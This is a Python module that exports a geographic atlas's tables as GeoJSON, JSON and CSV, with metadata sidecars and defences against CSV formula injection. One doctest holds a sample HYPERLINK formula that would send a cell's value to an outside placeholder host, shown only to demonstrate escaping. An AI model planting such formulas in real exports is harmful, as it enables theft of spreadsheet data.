"""Export what the Data page shows — the features, events and passages in view — as GeoJSON, JSON
and CSV that open cleanly in a spreadsheet, a GIS and code.

Each table is one :class:`Table`: its rows in the order the page shows them, with every column
an export carries (the page shows some of them). So an export is the table on screen, row for
row, plus what a file needs:

- **GeoJSON** (features): an RFC 7946 FeatureCollection whose Features keep their top-level
  ``id``; a top-level ``metadata`` member (a foreign member, which readers ignore) gives the data
  version, the filters and the row order. Every date is ``YYYY-MM-DD`` with a ``*_precision``
  beside it, so a GIS reads one field type whatever the filter (GDAL makes a field a date only
  when every value is a full date).
- **JSON** (events, passages): ``{"metadata": {...}, "<table>": [rows]}``.
- **CSV**: UTF-8 with a byte-order mark (a spreadsheet shows "39°28′N", not "39Â°28â€²N"), CRLF
  line ends (RFC 4180), lists joined with ``;``, and every text cell that a spreadsheet would read
  as a formula (one beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, as
  OWASP's CSV-injection advice lists) prefixed with ``'``. Sites have ``lat``/``lon``, routes a
  bounding box, beside the WKT. The metadata goes in a sidecar, ``<file>.csv-metadata.json``
  (the W3C "CSV on the Web" convention), so the CSV itself stays one header row and its rows.
- **File names** say what is in them: ``corridor-atlas_features_country-KG_v<version>.csv``.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import geopandas as gpd
import pandas as pd

from geo.highlight import safe_url
from geo.urlstate import FILTERS, ViewState, encode_value

__all__ = [
    "NO_COUNTRY",
    "Table",
    "csv_metadata",
    "event_table",
    "export_csv",
    "export_geojson",
    "export_json",
    "export_metadata",
    "export_name",
    "ExportFile",
    "exported_files",
    "feature_table",
    "formats",
    "neutralise",
    "passage_table",
]

NO_COUNTRY = "none"  # km_by_country's key for the km in no country (the Caspian Sea)
LICENCE = (
    "Atlas data: CC BY 4.0 (Corridor Atlas contributors). Quoted source texts: copyright stays "
    "with their publishers (see each source's rights)."
)
# A spreadsheet reads a cell beginning with one of these as a formula (OWASP, CSV injection).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Table:
    """One table of the Data page and its exports.

    what : ``features``, ``events`` or ``passages``.
    rows : every exported column, one row per record, in the order the page shows them.
    shown : the columns the page's table shows, in order.
    order : how the rows are ordered, in words (exports say it too).
    geometry : the features' geometries, aligned with ``rows`` (features only).
    """

    what: str
    rows: pd.DataFrame
    shown: tuple[str, ...]
    order: str
    geometry: gpd.GeoSeries | None = None

    @property
    def screen(self) -> pd.DataFrame:
        """The columns the page shows, lists and mappings as text."""
        return pd.DataFrame({c: [_display(v) for v in self.rows[c]] for c in self.shown})


def _display(value: Any) -> Any:
    if isinstance(value, list | tuple):
        return ", ".join(map(str, value))
    if isinstance(value, dict):
        return " · ".join(
            f"{'no country' if k == NO_COUNTRY else k} {v:,.0f} km" for k, v in value.items()
        )
    return value


# ----------------------------------------------------------------------------- the three tables


def _km_by_country(crossings: pd.DataFrame) -> dict[str, dict[str, float]]:
    """Route id → {country code (or ``none``) → km}, longest first."""
    out: dict[str, dict[str, float]] = {}
    rows = zip(crossings["feature_id"], crossings["iso_a2"], crossings["km"], strict=True)
    for fid, code, km in rows:
        key = code if isinstance(code, str) and code else NO_COUNTRY
        out.setdefault(fid, {})[key] = round(float(km), 1)
    return {fid: dict(sorted(d.items(), key=lambda kv: -kv[1])) for fid, d in out.items()}


def _rounded(values, keep) -> list[float]:
    """``values`` rounded to 6 decimals (about 0.1 m) where ``keep``, else NaN."""
    return [round(float(v), 6) if k else math.nan for v, k in zip(values, keep, strict=True)]


def _first_day(date: str) -> str:
    """``YYYY-MM-DD`` of the first day ``date`` (``YYYY``, ``YYYY-MM`` or a full date) can mean."""
    parts = date.split("-")
    return "-".join(parts + ["01"] * (3 - len(parts)))


def _precision(date: str) -> str:
    return {1: "year", 2: "month", 3: "day"}[len(date.split("-"))]


def feature_table(features: gpd.GeoDataFrame, crossings: pd.DataFrame) -> Table:
    """The features in view: routes first (they carry the measures), then sites; each by
    project and name."""
    order = features.assign(_site=~features["is_route"].to_numpy()).sort_values(
        ["_site", "project", "name"], kind="stable"
    )
    km = _km_by_country(crossings)
    bounds = order.geometry.bounds
    route = order["is_route"].to_numpy()
    site = ~route
    urls = [safe_url(u) if isinstance(u, str) else None for u in order["geometry_source_url"]]
    rows = pd.DataFrame(
        {
            "id": order["id"].to_numpy(),
            "name": order["name"].to_numpy(),
            "kind": order["kind"].to_numpy(),
            "project": order["project"].to_numpy(),
            "status": order["status"].to_numpy(),
            "status_as_of": [_first_day(d) for d in order["status_as_of"]],
            "status_as_of_precision": [_precision(d) for d in order["status_as_of"]],
            "countries": [list(c) for c in order["countries"]],
            "crossed": [list(c) for c in order["crossed"]],
            "km_by_country": [
                km.get(f, {}) if r else {} for f, r in zip(order["id"], route, strict=True)
            ],
            "length_km": order["length_km"].round(1).to_numpy(),
            "lat": _rounded(bounds["miny"], site),
            "lon": _rounded(bounds["minx"], site),
            "bbox_west": _rounded(bounds["minx"], route),
            "bbox_south": _rounded(bounds["miny"], route),
            "bbox_east": _rounded(bounds["maxx"], route),
            "bbox_north": _rounded(bounds["maxy"], route),
            "geometry_quality": order["geometry_quality"].to_numpy(),
            "geometry_source": order["geometry_source"].to_numpy(),
            # Only plain http(s) addresses: the page makes this column a link.
            "geometry_source_url": [u or "" for u in urls],
            "description": [d or "" for d in order["description"]],
        }
    )
    shown = ("id", "name", "kind", "project", "status", "countries", "km_by_country",
             "length_km", "geometry_quality", "geometry_source_url")  # fmt: skip
    return Table(
        "features",
        rows,
        shown,
        "routes first, then sites; each by project, then name",
        gpd.GeoSeries(order.geometry.to_numpy(), crs=features.crs),
    )


def event_table(events: pd.DataFrame, source_names: dict[str, str]) -> Table:
    """The events in view, by start date (then id), as the timeline reads."""
    order = events.sort_values(["start", "id"], kind="stable")
    rows = pd.DataFrame(
        {
            "id": order["id"].to_numpy(),
            "date": order["date"].to_numpy(),
            "precision": order["precision"].to_numpy(),
            "start": [t.date().isoformat() for t in order["start"]],
            "end": [t.date().isoformat() for t in order["end"]],
            "title": order["title"].to_numpy(),
            "features": [list(f) for f in order["features"]],
            "date_text": order["date_text"].to_numpy(),
            "source": order["source"].to_numpy(),
            "source_name": [source_names.get(s, s) for s in order["source"]],
            "passage_id": order["passage_id"].to_numpy(),
            "evidence": order["evidence"].to_numpy(),
        }
    )
    shown = ("date", "title", "features", "date_text", "source_name", "evidence")
    return Table("events", rows, shown, "by start date, then id")


def passage_table(
    passages: pd.DataFrame, mentions: pd.DataFrame, source_names: dict[str, str]
) -> Table:
    """The passages in view, by source and paragraph, with the features each mentions."""
    order = passages.sort_values(["source", "index"], kind="stable")
    named: dict[str, list[str]] = {}
    for pid, feature in zip(mentions["passage_id"], mentions["feature"], strict=True):
        ids = named.setdefault(pid, [])
        if feature not in ids:
            ids.append(feature)
    rows = pd.DataFrame(
        {
            "passage_id": order["passage_id"].to_numpy(),
            "source": order["source"].to_numpy(),
            "source_name": [source_names.get(s, s) for s in order["source"]],
            "paragraph": (order["index"] + 1).to_numpy(),
            "features": [named.get(pid, []) for pid in order["passage_id"]],
            "text": order["text"].to_numpy(),
        }
    )
    shown = ("source_name", "paragraph", "features", "text")
    return Table("passages", rows, shown, "by source, then paragraph")


# --------------------------------------------------------------------------- what a file says


def export_metadata(table: Table, state: ViewState, version: str) -> dict[str, Any]:
    """What an export of ``table`` holds: the data version, the filters (as link parameters),
    the number of rows and their order, and the licence.

    >>> from geo.urlstate import ViewState
    >>> t = Table("events", pd.DataFrame({"id": ["a"]}), ("id",), "by date")
    >>> export_metadata(t, ViewState(countries=("KG",)), "v1")["filters"]
    {'country': 'KG'}
    """
    return {
        "title": f"Corridor Atlas: {table.what}",
        "data_version": version,
        "filters": _filters(state),
        "rows": len(table.rows),
        "order": table.order,
        "licence": LICENCE,
    }


def _filters(state: ViewState) -> dict[str, str]:
    return {p.key: text for p in FILTERS if (text := encode_value(p, getattr(state, p.field)))}


def export_name(what: str, state: ViewState, version: str, ext: str) -> str:
    """A file name that says what the file holds: the table, the filters and the data version.

    >>> export_name("features", ViewState(countries=("KG", "UZ"), kinds=("tunnel",)), "ab12",
    ...             "csv")
    'corridor-atlas_features_country-KG+UZ_kind-tunnel_vab12.csv'
    >>> export_name("events", ViewState(), "ab12", "json")
    'corridor-atlas_events_all_vab12.json'
    """
    parts = []
    for key, text in _filters(state).items():
        values = text.split(",")
        shown = "+".join(values[:3]) + (f"+{len(values) - 3}more" if len(values) > 3 else "")
        parts.append(f"{key}-{shown}")
    filters = re.sub(r"[^A-Za-z0-9+._-]", "-", "_".join(parts)) or "all"
    return f"corridor-atlas_{what}_{filters}_v{version}.{ext}"


# ------------------------------------------------------------------------------------- formats


def _json_value(value: Any) -> Any:
    if isinstance(value, float) and math.isnan(value):
        return None
    if hasattr(value, "item"):  # a numpy scalar
        return value.item()
    return value


def _records(rows: pd.DataFrame) -> list[dict[str, Any]]:
    return [
        {k: _json_value(v) for k, v in zip(rows.columns, values, strict=True)}
        for values in rows.itertuples(index=False, name=None)
    ]


def export_geojson(table: Table, metadata: dict[str, Any]) -> str:
    """The features of ``table`` as an RFC 7946 FeatureCollection (see the module docstring)."""
    assert table.geometry is not None, "only the features table has geometry"
    features = []
    for props, geom in zip(_records(table.rows), table.geometry, strict=True):
        feature: dict[str, Any] = {"type": "Feature", "id": props["id"], "properties": props}
        feature["geometry"] = geom.__geo_interface__
        if geom.geom_type != "Point":
            feature["bbox"] = [round(v, 6) for v in geom.bounds]
        features.append(feature)
    doc = {"type": "FeatureCollection", "metadata": metadata, "features": features}
    return json.dumps(doc, ensure_ascii=False, allow_nan=False) + "\n"


def export_json(table: Table, metadata: dict[str, Any]) -> str:
    """``{"metadata": …, "<what>": [rows]}``, lists as lists, missing values as null."""
    doc = {"metadata": metadata, table.what: _records(table.rows)}
    return json.dumps(doc, ensure_ascii=False, indent=1, allow_nan=False) + "\n"


def neutralise(cell: str) -> str:
    """A text cell a spreadsheet will not run as a formula.

    >>> neutralise('=HYPERLINK("http://example.com/?x="&A1,"Kashgar")')[:11]
    "'=HYPERLINK"
    >>> neutralise("-12 km"), neutralise("Kashgar")
    ("'-12 km", 'Kashgar')
    """
    return "'" + cell if cell.startswith(_FORMULA_START) else cell


def _csv_cell(value: Any) -> str:
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    if isinstance(value, list | tuple):
        return neutralise(";".join(map(str, value)))
    if isinstance(value, dict):
        return neutralise(";".join(f"{k}:{v}" for k, v in value.items()))
    if isinstance(value, str):
        return neutralise(value)
    return str(_json_value(value))  # a number is written as a number, even when negative


def export_csv(table: Table) -> str:
    """The rows of ``table`` as CSV (see the module docstring); features end with their WKT."""
    columns = list(table.rows.columns)
    wkt = [g.wkt for g in table.geometry] if table.geometry is not None else None
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(columns + (["geometry_wkt"] if wkt is not None else []))
    for i, values in enumerate(table.rows.itertuples(index=False, name=None)):
        row = [_csv_cell(v) for v in values]
        writer.writerow(row + ([wkt[i]] if wkt is not None else []))
    return "\ufeff" + out.getvalue()


def csv_metadata(table: Table, metadata: dict[str, Any], csv_name: str) -> str:
    """The CSV's sidecar, ``<csv_name>-metadata.json``: CSV on the Web (W3C) metadata naming
    the file, its columns and what it holds."""
    columns = list(table.rows.columns) + (["geometry_wkt"] if table.geometry is not None else [])
    doc = {
        "@context": "http://www.w3.org/ns/csvw",
        "url": csv_name,
        "dc:title": metadata["title"],
        "dc:license": metadata["licence"],
        "notes": [
            f"data version {metadata['data_version']}",
            "filters: " + (", ".join(f"{k}={v}" for k, v in metadata["filters"].items()) or "none"),
            f"rows: {metadata['rows']}, {metadata['order']}",
            "text cells that a spreadsheet would read as a formula begin with an added '",
        ],
        "metadata": metadata,
        "dialect": {"encoding": "utf-8", "lineTerminators": ["\r\n"], "header": True},
        "tableSchema": {"columns": [{"name": c, "titles": c} for c in columns]},
    }
    return json.dumps(doc, ensure_ascii=False, indent=1) + "\n"


def formats(what: str) -> tuple[str, ...]:
    """The formats a table is exported in: GeoJSON for the features (they have geometry), JSON
    for the others; CSV for all."""
    return ("geojson", "csv") if what == "features" else ("json", "csv")


MIME = {"geojson": "application/geo+json", "json": "application/json", "csv": "text/csv"}
LABELS = {"geojson": "GeoJSON", "json": "JSON", "csv": "CSV"}


@dataclass(frozen=True)
class ExportFile:
    """One file of an export: its name, what it is, its type, and how to make its content
    (made only when asked for: a page offers every file but makes only the one clicked)."""

    name: str
    label: str
    mime: str
    make: Callable[[], str]


def exported_files(
    table: Table, fmt: str, state: ViewState, version: str, name: str | None = None
) -> list[ExportFile]:
    """The files of one export: the table in ``fmt`` and, for CSV, its metadata sidecar.
    ``name``: the main file's name (default :func:`export_name`).

    >>> t = Table("events", pd.DataFrame({"id": ["=1"]}), ("id",), "by id")
    >>> [f.name for f in exported_files(t, "csv", ViewState(), "v1")]
    ['corridor-atlas_events_all_vv1.csv', 'corridor-atlas_events_all_vv1.csv-metadata.json']
    >>> exported_files(t, "csv", ViewState(), "v1")[0].make().splitlines()
    ['\ufeffid', "'=1"]
    """
    if fmt not in formats(table.what):
        raise ValueError(
            f"{fmt} is not a format of the {table.what}; use {' or '.join(formats(table.what))}"
        )
    name = name or export_name(table.what, state, version, fmt)

    def metadata() -> dict[str, Any]:
        return export_metadata(table, state, version)

    if fmt == "csv":
        return [
            ExportFile(name, "CSV", MIME["csv"], lambda: export_csv(table)),
            ExportFile(
                f"{name}-metadata.json",
                "CSV metadata",
                MIME["json"],
                lambda: csv_metadata(table, metadata(), name),
            ),
        ]
    render = export_geojson if fmt == "geojson" else export_json
    return [ExportFile(name, LABELS[fmt], MIME[fmt], lambda: render(table, metadata()))]
